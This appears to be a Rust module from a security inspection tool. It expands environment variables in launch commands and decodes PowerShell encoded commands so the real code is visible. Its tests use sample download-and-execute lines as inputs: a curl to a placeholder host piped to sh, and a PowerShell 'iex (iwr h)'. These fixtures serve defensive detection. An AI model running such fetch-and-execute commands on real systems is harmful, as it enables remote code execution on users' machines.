//! What a command starts in other words than it is written in: with the values of variables that the entry sets, and with the
//! code that PowerShell takes encoded.

use std::collections::BTreeMap;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;

use super::named_paths::with_values;
use crate::model::Origin;
use crate::source::command::Command;
use crate::source::secret::is_secret_variable;

/// The option of PowerShell for encoded code. It may be cut to any length.
const ENCODED: &str = "encodedcommand";
/// Another name of the same.
const ENCODED_SHORT: &str = "ec";
/// Longest code that is decoded, in characters.
const MAX_CODE: usize = 64 << 10;

/// The settings that hold what `words` start in other words, with the variables `env`, without secrets.
pub(super) fn settings(words: &[String], env: &BTreeMap<String, String>) -> Vec<String> {
    [filled(words, env), decoded(words)].into_iter().flatten().collect()
}

/// The command with the values of variables in its code. `None` if it has none.
fn filled(words: &[String], env: &BTreeMap<String, String>) -> Option<String> {
    // A secret is no code, unless it is one only by its name.
    let is_shown = |name: &str, value: &String| !is_secret_variable(name) || value.contains('|');
    let value = |name: &str| env.get(name).filter(|value| is_shown(name, value)).cloned();
    let filled: Vec<String> = words.iter().map(|word| with_values(word, &value)).collect();
    (filled != words).then(|| line("filled", &filled))?
}

/// The code that PowerShell gets in base64.
fn decoded(words: &[String]) -> Option<String> {
    let program = words.first()?.rsplit(['/', '\\']).next()?.to_ascii_lowercase();
    if !program.starts_with("powershell") && !program.starts_with("pwsh") {
        return None;
    }
    let is_option = |word: &String| {
        let name = word.trim_start_matches(['-', '/']).to_ascii_lowercase();
        word.len() > name.len() && !name.is_empty() && (ENCODED.starts_with(&name) || name == ENCODED_SHORT)
    };
    let at = words.iter().position(is_option)?;
    let bytes = BASE64_STANDARD.decode(words.get(at + 1)?.get(..MAX_CODE).unwrap_or(words.get(at + 1)?)).ok()?;
    let (pairs, _) = bytes.as_chunks::<2>();
    let code = String::from_utf16_lossy(&pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect::<Vec<_>>());
    line("decoded", &[words.first()?.clone(), "-Command".into(), code])
}

fn line(kind: &str, words: &[String]) -> Option<String> {
    let (program, args) = words.split_first()?;
    let command = Command { program: program.clone(), args: args.to_vec() };
    Some(format!("{}.{kind} = {}", Origin::OTHER_LAUNCH, command.display()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_and_encoded_code_are_shown_as_what_they_start() {
        let found = |words: &[&str], env: &[(&str, &str)]| {
            let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
            settings(&words, &env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect())
        };
        let run = "curl https://h.example/x | sh";
        assert_eq!(found(&["sh", "-c", "$RUN"], &[("RUN", run)]), [format!("launch.filled = sh -c '{run}'")]);
        assert_eq!(found(&["sh", "-c", "exec ${RUN}"], &[("OTHER", run)]), [""; 0]);
        assert_eq!(found(&["x", "$SHOP_PASSWORD"], &[("SHOP_PASSWORD", "planted")]), [""; 0]);
        assert_eq!(found(&["sh", "-c", "$SHOP_TOKEN"], &[("SHOP_TOKEN", run)]).len(), 1);
        let utf16: Vec<u8> = "iex (iwr h)".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let code = BASE64_STANDARD.encode(utf16);
        for option in ["-EncodedCommand", "-enc", "/e", "-ec"] {
            let shown = found(&["C:\\Windows\\powershell.exe", "-NoProfile", option, &code], &[]);
            assert_eq!(shown.len(), 1, "{option}");
            assert!(shown[0].starts_with("launch.decoded = ") && shown[0].contains("iex (iwr h)"), "{shown:?}");
        }
        assert_eq!(found(&["node", "-e", &code], &[]), [""; 0]);
    }
}
